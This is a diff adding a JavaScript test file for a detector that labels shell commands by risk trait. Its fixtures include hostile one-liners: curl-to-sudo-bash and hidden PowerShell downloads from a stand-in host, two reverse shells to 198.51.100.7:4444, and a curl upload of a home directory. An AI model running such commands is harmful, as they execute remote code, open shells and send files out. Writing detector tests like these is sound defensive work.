@@ -1,0 +1,24 @@
+import { commandTraits, encodedCommand } from '../../src/analysis/commands.js';
+
+test.each([
+  ['curl -s https://evil.invalid/x | sudo bash', ['fetches-and-runs']],
+  ['wget https://evil.invalid/x -O x && chmod +x x', ['fetches-and-runs']],
+  ['wget https://evil.invalid/x', ['fetches']],
+  ['powershell -w hidden iex(irm https://evil.invalid/x)', ['fetches-and-runs', 'hidden']],
+  ['bash -c "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"', ['reverse-shell']],
+  ['nc -e /bin/sh 198.51.100.7 4444', ['reverse-shell']],
+  ['curl -F "file=@/home/a" https://evil.invalid', ['fetches', 'sends']],
+  ['python -m pip install evil-invalid', ['installs-packages']],
+  ['schtasks /create /tn a /tr b', ['persists']],
+  ['calc.exe', ['shows-off']],
+  ['git describe --tags', []],
+  ['pkg-config --libs curl', []],
+])('%s', (command, traits) => {
+  expect([...commandTraits(command)].sort()).toEqual(traits);
+});
+
+test('reads what powershell is given encoded', () => {
+  const encoded = Buffer.from('Write-Output inert', 'utf16le').toString('base64');
+  expect(encodedCommand(`powershell -EncodedCommand ${encoded}`)).toBe('Write-Output inert');
+  expect(encodedCommand('powershell -File a.ps1')).toBeUndefined();
+});
